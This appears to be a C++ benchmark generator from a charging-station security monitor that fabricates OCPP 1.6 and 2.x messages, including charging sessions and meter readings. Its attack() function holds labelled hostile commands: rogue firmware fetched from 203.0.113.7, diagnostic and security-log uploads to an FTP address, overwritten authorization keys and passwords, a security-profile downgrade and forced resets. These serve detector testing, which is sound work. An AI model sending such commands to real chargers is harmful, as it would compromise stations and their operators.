#include "tests/bench/ocpp_content.h"

#include <algorithm>
#include <array>
#include <iterator>

#include <fmt/compile.h>
#include <fmt/format.h>

#include "collector/base/text.h"

namespace chargewarden::bench {
namespace {

#define CHARGEWARDEN_PUT(out, text, ...) \
  fmt::format_to(std::back_inserter(out), FMT_COMPILE(text), __VA_ARGS__)

void append_uuid(std::string& out, Random& random) {
  random.append_hex(out, 4);
  for (const unsigned bytes : {2U, 2U, 2U, 6U}) {
    out += '-';
    random.append_hex(out, bytes);
  }
}

}  // namespace

std::string_view subprotocol_of(Version version) {
  switch (version) {
    case Version::k16:
      return "ocpp1.6";
    case Version::k201:
      return "ocpp2.0.1";
    case Version::k21:
      return "ocpp2.1";
  }
  return {};
}

Station::Station(Random& random, std::uint64_t number, Version version)
    : random_(random),
      id_(fmt::format("CP-{:06}", number)),
      version_(version),
      dc_(random.chance(30)),
      phases_(random.chance(80) ? 3 : 1),
      energy_wh_(static_cast<double>(random.between(100'000, 9'000'000))) {}

void Station::begin(Exchange& out, End caller, std::string_view action) {
  out.caller = caller;
  out.action = action;
  out.is_error = false;
  out.threat = {};
  message_id_.clear();
  append_uuid(message_id_, random_);
  out.call.clear();
  CHARGEWARDEN_PUT(out.call, "[2,\"{}\",\"{}\",", message_id_, action);
  out.answer.clear();
  CHARGEWARDEN_PUT(out.answer, "[3,\"{}\",", message_id_);
}

// To be called when the payload of the call is complete; `result` is that of the answer.
void Station::end(Exchange& out, std::string_view result) {
  out.call += ']';
  out.answer += result;
  out.answer += ']';
}

void Station::next(std::int64_t time_ns, Exchange& out) {
  std::array<char, kRfc3339Len> text{};
  now_ = format_rfc3339(time_ns, text).substr(0, 23);
  now_ += 'Z';
  switch (phase_) {
    case Phase::kBoot:
      phase_ = Phase::kFirstStatus;
      return boot(out);
    case Phase::kFirstStatus:
      phase_ = Phase::kIdle;
      return status(out, "Available");
    case Phase::kIdle:
      if (random_.chance(45)) return heartbeat(out);
      if (random_.chance(15)) return settings(out);
      if (random_.chance(35)) return status(out, "Available");
      phase_ = Phase::kAuthorize;
      return status(out, version_ == Version::k16 ? "Preparing" : "Occupied");
    case Phase::kAuthorize:
      phase_ = Phase::kStart;
      return authorize(out);
    case Phase::kStart:
      phase_ = Phase::kOn;
      transaction_ = random_.below(100'000'000);
      sequence_ = 0;
      samples_left_ = static_cast<unsigned>(random_.between(10, 120));
      metered_ns_ = time_ns;
      power_w_ = dc_ ? 120'000 : 3'680 * static_cast<double>(phases_);
      soc_percent_ = static_cast<double>(random_.between(5, 60));
      return transaction(out, "Started");
    case Phase::kOn:
      if (random_.chance(4)) return heartbeat(out);
      if (random_.chance(1)) return profile(out);
      if (--samples_left_ == 0) phase_ = Phase::kStop;
      advance_meter(time_ns);
      return transaction(out, "Updated");
    case Phase::kStop:
      phase_ = Phase::kFirstStatus;
      return transaction(out, "Ended");
  }
}

// Power falls as the battery fills; energy is power by time.
void Station::advance_meter(std::int64_t time_ns) {
  const double hours = static_cast<double>(time_ns - metered_ns_) / 3.6e12;
  metered_ns_ = time_ns;
  energy_wh_ += power_w_ * hours;
  soc_percent_ = std::min(100.0, soc_percent_ + power_w_ * hours / 600.0);
  power_w_ *= 0.99 + 0.00001 * static_cast<double>(random_.between(0, 1000));
}

void Station::boot(Exchange& out) {
  begin(out, End::kClient, "BootNotification");
  if (version_ == Version::k16) {
    CHARGEWARDEN_PUT(out.call,
                     "{{\"chargePointVendor\":\"Voltara\",\"chargePointModel\":\"{}\","
                     "\"chargePointSerialNumber\":\"SN-{}\",\"firmwareVersion\":\"4.0.2\","
                     "\"meterType\":\"EM-340\"}}",
                     dc_ ? "HPC-150" : "AC22", id_);
  } else {
    CHARGEWARDEN_PUT(out.call,
                     "{{\"reason\":\"PowerUp\",\"chargingStation\":{{\"model\":\"{}\","
                     "\"vendorName\":\"Voltara\",\"serialNumber\":\"SN-{}\","
                     "\"firmwareVersion\":\"4.0.2\"}}}}",
                     dc_ ? "HPC-150" : "AC22v2", id_);
  }
  std::string result;
  CHARGEWARDEN_PUT(result, "{{\"currentTime\":\"{}\",\"interval\":300,\"status\":\"Accepted\"}}",
                   now_);
  end(out, result);
}

void Station::status(Exchange& out, std::string_view state) {
  begin(out, End::kClient, "StatusNotification");
  if (version_ == Version::k16) {
    CHARGEWARDEN_PUT(out.call,
                     "{{\"connectorId\":1,\"errorCode\":\"NoError\",\"status\":\"{}\","
                     "\"timestamp\":\"{}\"}}",
                     state, now_);
  } else {
    CHARGEWARDEN_PUT(out.call,
                     "{{\"timestamp\":\"{}\",\"connectorStatus\":\"{}\",\"evseId\":1,"
                     "\"connectorId\":1}}",
                     now_, state);
  }
  end(out, "{}");
}

void Station::heartbeat(Exchange& out) {
  begin(out, End::kClient, "Heartbeat");
  out.call += "{}";
  std::string result;
  CHARGEWARDEN_PUT(result, "{{\"currentTime\":\"{}\"}}", now_);
  end(out, result);
}

void Station::authorize(Exchange& out) {
  token_.clear();
  random_.append_hex(token_, 4);
  begin(out, End::kClient, "Authorize");
  if (version_ == Version::k16) {
    CHARGEWARDEN_PUT(out.call, "{{\"idTag\":\"{}\"}}", token_);
    end(out, "{\"idTagInfo\":{\"status\":\"Accepted\"}}");
  } else {
    CHARGEWARDEN_PUT(out.call, "{{\"idToken\":{{\"idToken\":\"{}\",\"type\":\"ISO14443\"}}}}",
                     token_);
    end(out, "{\"idTokenInfo\":{\"status\":\"Accepted\"}}");
  }
}

void Station::sampled(std::string& out, bool first, std::string_view context,
                      std::string_view measurand, std::string_view phase, std::string_view unit,
                      double value) {
  if (!first) out += ',';
  const bool old = version_ == Version::k16;
  if (old) {
    CHARGEWARDEN_PUT(out, "{{\"value\":\"{:.1f}\",", value);
  } else {
    CHARGEWARDEN_PUT(out, "{{\"value\":{:.1f},", value);
  }
  CHARGEWARDEN_PUT(out, "\"context\":\"{}\",\"measurand\":\"{}\",", context, measurand);
  if (!phase.empty()) CHARGEWARDEN_PUT(out, "\"phase\":\"{}\",", phase);
  if (old) {
    CHARGEWARDEN_PUT(out, "\"location\":\"Outlet\",\"unit\":\"{}\"}}", unit);
  } else {
    CHARGEWARDEN_PUT(out, "\"location\":\"Outlet\",\"unitOfMeasure\":{{\"unit\":\"{}\"}}}}", unit);
  }
}

// The list "meterValue": energy and power, then what the kind of station measures.
void Station::meter_values(std::string& out, std::string_view context) {
  constexpr std::array<std::string_view, 3> kPhases{"L1", "L2", "L3"};
  CHARGEWARDEN_PUT(out, "\"meterValue\":[{{\"timestamp\":\"{}\",\"sampledValue\":[", now_);
  sampled(out, true, context, "Energy.Active.Import.Register", {}, "Wh", energy_wh_);
  sampled(out, false, context, "Power.Active.Import", {}, "W", power_w_);
  const auto noise = static_cast<double>(random_.between(-20, 20)) / 10;
  if (dc_) {
    sampled(out, false, context, "Voltage", {}, "V", 400 + noise);
    sampled(out, false, context, "Current.Import", {}, "A", power_w_ / 400);
    sampled(out, false, context, "SoC", {}, "Percent", soc_percent_);
    sampled(out, false, context, "Temperature", {}, "Celsius", 31 + noise);
  } else {
    const double current = power_w_ / 230 / static_cast<double>(phases_);
    for (unsigned i = 0; i < phases_; ++i) {
      sampled(out, false, context, "Current.Import", kPhases[i], "A", current);
    }
    sampled(out, false, context, "Voltage", "L1-N", "V", 230 + noise);
  }
  out += "]}]";
}

void Station::transaction(Exchange& out, std::string_view event) {
  const bool started = event == "Started";
  const bool ended = event == "Ended";
  if (version_ == Version::k16) {
    return started || ended ? start_or_stop_16(out, started) : meter_16(out);
  }
  begin(out, End::kClient, "TransactionEvent");
  CHARGEWARDEN_PUT(out.call,
                   "{{\"eventType\":\"{}\",\"timestamp\":\"{}\",\"triggerReason\":\"{}\","
                   "\"seqNo\":{},\"transactionInfo\":{{\"transactionId\":\"{}-{:08}\","
                   "\"chargingState\":\"{}\"{}}},",
                   event, now_,
                   started ? "Authorized" : (ended ? "EVDeparted" : "MeterValuePeriodic"),
                   sequence_++, id_, transaction_, ended ? "Idle" : "Charging",
                   ended ? ",\"stoppedReason\":\"EVDisconnected\"" : "");
  if (started) {
    CHARGEWARDEN_PUT(out.call, "\"idToken\":{{\"idToken\":\"{}\",\"type\":\"ISO14443\"}},", token_);
  }
  out.call += "\"evse\":{\"id\":1,\"connectorId\":1},";
  meter_values(out.call,
               started ? "Transaction.Begin" : (ended ? "Transaction.End" : "Sample.Periodic"));
  out.call += '}';
  end(out, started ? "{\"idTokenInfo\":{\"status\":\"Accepted\"}}" : "{}");
}

void Station::start_or_stop_16(Exchange& out, bool start) {
  begin(out, End::kClient, start ? "StartTransaction" : "StopTransaction");
  const auto meter = static_cast<std::int64_t>(energy_wh_);
  std::string result;
  if (start) {
    CHARGEWARDEN_PUT(
        out.call, "{{\"connectorId\":1,\"idTag\":\"{}\",\"meterStart\":{},\"timestamp\":\"{}\"}}",
        token_, meter, now_);
    CHARGEWARDEN_PUT(result, "{{\"transactionId\":{},\"idTagInfo\":{{\"status\":\"Accepted\"}}}}",
                     transaction_);
  } else {
    CHARGEWARDEN_PUT(out.call,
                     "{{\"transactionId\":{},\"idTag\":\"{}\",\"meterStop\":{},"
                     "\"timestamp\":\"{}\",\"reason\":\"EVDisconnected\"}}",
                     transaction_, token_, meter, now_);
    result = "{\"idTagInfo\":{\"status\":\"Accepted\"}}";
  }
  end(out, result);
}

void Station::meter_16(Exchange& out) {
  begin(out, End::kClient, "MeterValues");
  CHARGEWARDEN_PUT(out.call, "{{\"connectorId\":1,\"transactionId\":{},", transaction_);
  meter_values(out.call, "Sample.Periodic");
  out.call += '}';
  end(out, "{}");
}

void Station::settings(Exchange& out) {
  if (version_ == Version::k16) {
    begin(out, End::kServer, "GetConfiguration");
    out.call += "{\"key\":[\"HeartbeatInterval\",\"MeterValueSampleInterval\"]}";
    end(out,
        "{\"configurationKey\":[{\"key\":\"HeartbeatInterval\",\"readonly\":false,\"value\":\"300\""
        "},{\"key\":\"MeterValueSampleInterval\",\"readonly\":false,\"value\":\"60\"}]}");
  } else {
    begin(out, End::kServer, "GetVariables");
    out.call +=
        "{\"getVariableData\":[{\"component\":{\"name\":\"OCPPCommCtrlr\"},\"variable\":{\"name\":"
        "\"HeartbeatInterval\"}}]}";
    end(out,
        "{\"getVariableResult\":[{\"attributeStatus\":\"Accepted\",\"attributeValue\":\"300\","
        "\"component\":{\"name\":\"OCPPCommCtrlr\"},\"variable\":{\"name\":\"HeartbeatInterval\"}}]"
        "}");
  }
}

// A limit for the running session. Simple stations do not know charging profiles.
void Station::profile(Exchange& out) {
  begin(out, End::kServer, "SetChargingProfile");
  const auto limit = random_.between(6, 32);
  if (version_ == Version::k16) {
    CHARGEWARDEN_PUT(out.call,
                     "{{\"connectorId\":1,\"csChargingProfiles\":{{\"chargingProfileId\":1,"
                     "\"transactionId\":{},\"stackLevel\":0,\"chargingProfilePurpose\":"
                     "\"TxProfile\",\"chargingProfileKind\":\"Relative\",\"chargingSchedule\":{{"
                     "\"chargingRateUnit\":\"A\",\"chargingSchedulePeriod\":[{{\"startPeriod\":0,"
                     "\"limit\":{}.0}}]}}}}}}",
                     transaction_, limit);
  } else {
    CHARGEWARDEN_PUT(out.call,
                     "{{\"evseId\":1,\"chargingProfile\":{{\"id\":1,\"stackLevel\":0,"
                     "\"chargingProfilePurpose\":\"TxProfile\",\"chargingProfileKind\":"
                     "\"Relative\",\"transactionId\":\"{}-{:08}\",\"chargingSchedule\":[{{"
                     "\"id\":1,\"chargingRateUnit\":\"A\",\"chargingSchedulePeriod\":[{{"
                     "\"startPeriod\":0,\"limit\":{}.0}}]}}]}}}}",
                     id_, transaction_, limit);
  }
  if (random_.chance(25)) {
    out.is_error = true;
    out.answer[1] = '4';
    end(out, "\"NotSupported\",\"\",{}");
  } else {
    end(out, "{\"status\":\"Accepted\"}");
  }
}

void Station::attack(Exchange& out) {
  struct Attack {
    std::string_view threat;
    std::string_view action;
    std::string_view payload;
    std::string_view result;
  };

  constexpr std::string_view kAccepted = R"({"status":"Accepted"})";
  static constexpr std::array<Attack, 5> kOld{{
      {"fw-01", "UpdateFirmware",
       R"({"location":"http://203.0.113.7/fw/ac22.bin","retrieveDate":"2026-11-22T00:00:00Z"})",
       "{}"},
      {"cf-01", "ChangeConfiguration",
       R"({"key":"AuthorizationKey","value":"4f4343505f7365637265745f6b6579"})", kAccepted},
      {"cf-02", "ChangeConfiguration", R"({"key":"SecurityProfile","value":"0"})", kAccepted},
      {"av-06", "Reset", R"({"type":"Hard"})", kAccepted},
      {"lg-15", "GetDiagnostics", R"({"location":"ftp://203.0.113.7/up/"})",
       R"({"fileName":"diag.zip"})"},
  }};
  static constexpr std::array<Attack, 4> kNew{{
      {"fw-01", "UpdateFirmware",
       R"({"requestId":7,"firmware":{"location":"http://203.0.113.7/fw/ac22.bin",)"
       R"("retrieveDateTime":"2026-11-22T00:00:00Z"}})",
       kAccepted},
      {"cf-01", "SetVariables",
       R"({"setVariableData":[{"attributeValue":"a-secret-of-16-ch","component":)"
       R"({"name":"SecurityCtrlr"},"variable":{"name":"BasicAuthPassword"}}]})",
       R"({"setVariableResult":[{"attributeStatus":"Accepted","component":{"name":"SecurityCtrlr"},)"
       R"("variable":{"name":"BasicAuthPassword"}}]})"},
      {"av-06", "Reset", R"({"type":"Immediate"})", kAccepted},
      {"lg-15", "GetLog",
       R"({"requestId":8,"logType":"SecurityLog",)"
       R"("log":{"remoteLocation":"ftp://203.0.113.7/up/"}})",
       kAccepted},
  }};
  const Attack& attack = version_ == Version::k16 ? kOld[random_.below(kOld.size())]
                                                  : kNew[random_.below(kNew.size())];
  begin(out, End::kServer, attack.action);
  out.call += attack.payload;
  end(out, attack.result);
  out.threat = attack.threat;
}

}  // namespace chargewarden::bench
